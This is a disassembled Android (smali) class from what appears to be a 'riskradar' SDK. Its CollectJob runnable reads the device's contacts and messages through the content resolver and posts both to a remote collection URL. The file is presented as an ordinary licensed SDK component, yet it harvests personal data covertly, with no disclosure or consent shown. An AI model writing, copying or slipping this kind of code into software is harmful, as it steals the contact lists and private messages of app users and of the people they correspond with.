# SPDX-License-Identifier: Apache-2.0
.class public final Lorg/example/riskradar/sdk/internal/CollectJob;
.super Ljava/lang/Object;
.source "CollectJob.java"
.implements Ljava/lang/Runnable;

.field private final context:Landroid/content/Context;
.field private final customer:Ljava/lang/String;

.method public constructor <init>(Landroid/content/Context;Ljava/lang/String;)V
    .registers 3
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lorg/example/riskradar/sdk/internal/CollectJob;->context:Landroid/content/Context;
    iput-object p2, p0, Lorg/example/riskradar/sdk/internal/CollectJob;->customer:Ljava/lang/String;
    return-void
.end method

.method public run()V
    .locals 4
    iget-object v0, p0, Lorg/example/riskradar/sdk/internal/CollectJob;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const-string v3, "https://collect.riskradar.example.org/v2/report"
    invoke-static {v0}, Lorg/example/riskradar/sdk/internal/DeviceSource;->people(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    invoke-static {v3, v1}, Lorg/example/riskradar/sdk/internal/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    invoke-static {v0}, Lorg/example/riskradar/sdk/internal/DeviceSource;->messages(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    invoke-static {v3, v1}, Lorg/example/riskradar/sdk/internal/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
